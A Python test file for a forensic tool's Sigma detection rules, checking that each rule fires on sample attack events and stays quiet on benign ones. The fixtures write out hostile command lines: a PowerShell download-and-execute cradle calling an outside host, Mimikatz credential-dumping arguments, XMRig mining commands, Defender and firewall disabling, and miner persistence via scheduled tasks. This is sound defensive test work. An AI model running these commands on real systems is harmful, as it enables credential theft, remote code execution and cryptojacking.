"""deminer's own Sigma pack: every rule converts, fires on its example and stays quiet otherwise.

``EXAMPLES`` holds, per rule file, events that must produce a finding and events that must
not; they are built by the real Windows mapping (``sigma_gen``). A new pack file without
examples fails ``test_every_pack_file_has_examples``.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path

import pytest
import yaml

from deminer.case import Case
from deminer.detect.engine import run_rule
from deminer.detect.rules import load_rules
from deminer.detect.sigma.loader import PACK_DIR, load
from deminer.detect.sigma.run import sigma_findings
from deminer.sources.ingest import ingest
from tests.detect import sigma_gen as g

Row = g.Row
PS = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
SCHTASKS = r"C:\Windows\System32\schtasks.exe"


def dns(name: str, image: str = r"C:\ProgramData\svc.exe") -> Row:
    return g.win(g.SYSMON, 22, {"Image": image, "QueryName": name, "QueryStatus": "0"})


def conn(host: str | None, ip: str, port: int, image: str = r"C:\ProgramData\svc.exe",
         initiated: str = "true") -> Row:
    fields = {"Image": image, "DestinationIp": ip, "DestinationPort": str(port),
              "Initiated": initiated, "Protocol": "tcp"}
    if host:
        fields["DestinationHostname"] = host
    return g.win(g.SYSMON, 3, fields)


def task(log: tuple[str, str], event_id: int, name: str) -> Row:
    return g.win(log, event_id, {"TaskName": name, "SubjectUserName": "admin", "UserContext": "SYSTEM"})


XMRIG_LINUX = ("./kdevtmpfsi -o stratum+tcp://pool.supportxmr.com:3333 -u 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSk"
               " -p x --donate-level 1 -B")

# file name -> (rows that must fire, rows that must stay quiet)
EXAMPLES: dict[str, tuple[Callable[[], list[Row]], Callable[[], list[Row]]]] = {
    "dns_query_win_mining_pool.yml": (
        lambda: [dns("pool.supportxmr.com"), dns("gulf.moneroocean.stream")],
        lambda: [dns("www.microsoft.com"), dns("notsupportxmr.com")]),
    "net_connection_win_mining_pool.yml": (
        lambda: [conn("xmr-eu1.nanopool.org", "51.15.55.162", 14433)],
        lambda: [conn("update.microsoft.com", "13.107.4.50", 443), dns("pool.supportxmr.com")]),
    "net_connection_win_stratum_port.yml": (
        lambda: [conn(None, "45.9.148.21", 3333)],
        lambda: [conn(None, "45.9.148.21", 3333, image=r"C:\Program Files\Google\Chrome\chrome.exe"),
                 conn(None, "10.0.0.5", 3333), conn(None, "45.9.148.21", 443),
                 conn(None, "45.9.148.21", 3333, initiated="false")]),
    "proc_creation_lnx_xmrig_cmdline.yml": (
        lambda: [g.linux("shell_command", XMRIG_LINUX, user="www-data", program="bash")],
        lambda: [g.linux("shell_command", "ssh -o StrictHostKeyChecking=no backup@10.0.0.2"),
                 g.proc(r"C:\x\xmrig.exe", "xmrig.exe --donate-level 1")]),
    "proc_creation_win_mimikatz_cmdline.yml": (
        lambda: [g.proc(r"C:\Windows\Temp\m.exe",
                        'm.exe "privilege::debug" "sekurlsa::logonpasswords" exit')],
        lambda: [g.proc(r"C:\Windows\System32\net.exe", "net user administrator")]),
    "proc_creation_win_powershell_download_cradle.yml": (
        lambda: [g.proc(PS, "powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString("
                            "'http://t.amynx.com/gim.jsp')\"")],
        lambda: [g.proc(PS, "powershell (New-Object Net.WebClient).DownloadFile('http://x/a.zip','a.zip')"),
                 g.proc(PS, "powershell IEX $cmd")]),
    "ps_script_win_download_cradle.yml": (
        lambda: [g.script("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.4/a.ps1')")],
        lambda: [g.script("Invoke-WebRequest -Uri http://x/a -OutFile a.zip"),
                 g.proc(PS, "IEX (New-Object Net.WebClient).DownloadString('http://x/y')")]),
    "proc_creation_win_powershell_encoded_command.yml": (
        lambda: [g.proc(PS, "powershell.exe -NoP -NonI -W Hidden -Enc SQBFAFgA"),
                 g.proc(r"C:\Program Files\PowerShell\7\pwsh.exe", "pwsh /e SQBFAFgA")],
        lambda: [g.proc(PS, r"powershell.exe -ExecutionPolicy Bypass -File C:\scripts\backup.ps1"),
                 g.proc(r"C:\Windows\System32\cmd.exe", "cmd /c echo -enc x")]),
    "proc_creation_win_schtasks_miner_task.yml": (
        lambda: [g.proc(SCHTASKS, "schtasks /create /ru system /sc MINUTE /mo 10 /tn Ddrivers "
                                  "/tr \"cmd /c powershell -nop -ep bypass -e SQBFAFgA\" /F")],
        lambda: [g.proc(SCHTASKS, "schtasks /create /tn GoogleUpdateTaskMachineUA /tr x.exe"),
                 g.proc(SCHTASKS, "schtasks /query /tn Ddrivers")]),
    "proc_creation_win_xmrig_cmdline.yml": (
        lambda: [g.proc(r"C:\ProgramData\Microsoft\sys.exe",
                        "sys.exe -o pool.minexmr.com:4444 -u 4AdUnd -p x --donate-level=1 -k"),
                 g.proc(r"C:\Users\bob\xmrig.exe", "xmrig.exe")],
        lambda: [g.proc(r"C:\Program Files\Git\git.exe", "git fetch --all --prune")]),
    "win_security_miner_scheduled_task.yml": (
        lambda: [task(g.SECURITY, 4698, r"\Ddrivers")],
        lambda: [task(g.SECURITY, 4698, r"\Microsoft\Windows\Defrag\ScheduledDefrag"),
                 task(g.SECURITY, 4699, r"\Ddrivers")]),
    "win_taskscheduler_miner_scheduled_task.yml": (
        lambda: [task(g.TASKSCHEDULER, 106, r"\DnsScan")],
        lambda: [task(g.TASKSCHEDULER, 106, r"\Microsoft\Windows\UpdateOrchestrator\Reboot"),
                 task(g.SECURITY, 4698, r"\DnsScan")]),
}

PACK_FILES = sorted(p.name for p in PACK_DIR.glob("*.yml"))


def test_every_pack_file_has_examples() -> None:
    assert sorted(EXAMPLES) == PACK_FILES


def test_the_whole_pack_converts() -> None:
    pack = load([PACK_DIR])
    assert pack.problems == [] and pack.skipped == []
    assert {Path(r.path).name for r in pack.rules} == set(PACK_FILES)
    ids = [r.rule_id for r in pack.rules]
    assert len(ids) == len(set(ids))
    assert not set(ids) & {r.id for r in load_rules()}            # no clash with the SQL rules
    for r in pack.rules:
        assert re.match(r"^[a-z_]+\.[a-z0-9_]+$", r.rule_id) and r.attack, r.rule_id
        assert r.severity in ("medium", "high", "critical"), r.rule_id


@pytest.mark.parametrize("name", PACK_FILES)
def test_pack_file_is_complete_sigma(name: str) -> None:
    for doc in yaml.safe_load_all((PACK_DIR / name).read_text(encoding="utf-8")):
        for key in ("title", "id", "status", "description", "author", "date", "level", "falsepositives"):
            assert doc.get(key), f"{name}: {key}"
        tags = doc["tags"]
        assert any(re.match(r"^attack\.t\d{4}", t) for t in tags), name
        assert any(re.match(r"^attack\.[a-z-]+$", t) for t in tags), name


@pytest.mark.parametrize("name", PACK_FILES)
def test_pack_rule_fires_and_stays_quiet(name: str) -> None:
    fires, quiet = EXAMPLES[name]
    rules = load([PACK_DIR / name])
    assert rules.problems == []
    for rows, expect in ((fires(), True), (quiet(), False)):
        with Case(None) as case:
            case.add("events", rows)
            found, problems = sigma_findings(case, [PACK_DIR / name], pack=False)
        assert problems == []
        assert bool(found) is expect, (name, "fires" if expect else "quiet", [f.summary for f in found])
        assert all(f.evidence["sigma.file"].endswith(name) for f in found)


def test_default_run_includes_the_pack() -> None:
    with Case(None) as case:
        case.add("events", [g.proc(r"C:\Users\bob\xmrig.exe", "xmrig.exe")])
        found, problems = sigma_findings(case)
    assert problems == []
    assert [f.rule for f in found] == ["impact.xmrig_style_miner_command_line_on_windows"]


def sql_duplicates() -> dict[str, list[Row]]:
    """Attacks the SQL rules report once each: the pack must not report them a second time."""
    ps = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
    netsh = r"C:\Windows\System32\netsh.exe"
    return {
        "credential_access.win_smb_brute_force": [
            g.failed_logon("45.141.84.10", f"sa{i % 3}", seconds=10 * i) for i in range(12)],
        "credential_access.win_rdp_brute_force": [
            g.failed_logon("45.141.84.10", f"sa{i % 3}", seconds=10 * i, logon_type=10) for i in range(12)],
        "defense_evasion.win_svchost_outside_system32": [
            g.proc(r"C:\Windows\Fonts\svchost.exe", "svchost.exe -k netsvcs")],
        "defense_evasion.win_winring0_driver": [
            g.win(g.SYSMON, 6, {"ImageLoaded": r"C:\Windows\Temp\WinRing0x64.sys", "Signed": "true"}),
            g.win(g.SYSTEM, 7045, {"ServiceName": "WinRing0_1_2_0", "AccountName": "LocalSystem",
                                   "ImagePath": r"C:\Users\bob\AppData\Local\Temp\WinRing0x64.sys"})],
        "defense_evasion.win_firewall_or_defender_tamper": [
            g.proc(ps, "powershell Set-MpPreference -DisableRealtimeMonitoring $true"),
            g.proc(ps, r"powershell Add-MpPreference -ExclusionPath C:\ProgramData"),
            g.script("Set-MpPreference -DisableRealtimeMonitoring 1"),
            g.proc(netsh, "netsh advfirewall set allprofiles state off"),
            g.proc(netsh, "netsh firewall add portopening tcp 65529 SDNSd")],
        "execution.win_random_service_binary": [
            g.win(g.SYSTEM, 7045, {"ServiceName": "Updater", "ImagePath": r"%SystemRoot%\Temp\update.exe",
                                   "AccountName": "LocalSystem"}),
            g.win(g.SECURITY, 4697, {"ServiceName": "Updater", "SubjectUserName": "admin",
                                     "ServiceFileName": r"C:\Windows\Temp\update.exe"})],
    }


@pytest.mark.parametrize("rule", sorted(sql_duplicates()))
def test_pack_does_not_repeat_the_sql_rules(rule: str) -> None:
    # One attack, one finding: these used to give a pack finding next to the SQL rule's.
    rows = sql_duplicates()[rule]
    with Case(None) as case:
        case.add("events", rows)
        found, problems = sigma_findings(case)
        sql = run_rule(case, next(r for r in load_rules() if r.id == rule))
    assert problems == [] and [f.rule for f in found] == []
    assert len(sql) == 1, [f.summary for f in sql]


SHARED = Path(__file__).resolve().parents[2] / ".." / "shared" / "data" / "windows-evtx"


@pytest.mark.skipif(not SHARED.is_dir(), reason="../shared/data is not available")
def test_pack_on_real_attack_logs(tmp_path: Path) -> None:
    files = [SHARED / "smb-password-guessing-security.evtx", SHARED / "powersploit-security.evtx"]
    with Case(tmp_path / "case") as case:
        ingest(case, files)
        found, problems = sigma_findings(case)
    assert problems == []
    by_rule = {f.rule: f for f in found}
    # The SMB guessing is credential_access.win_smb_brute_force's (test_windows_rules_shared).
    assert not [f for f in found if any(a.startswith("T1110") for a in f.attack)]
    assert "execution.powershell_started_with_an_encoded_command" in by_rule
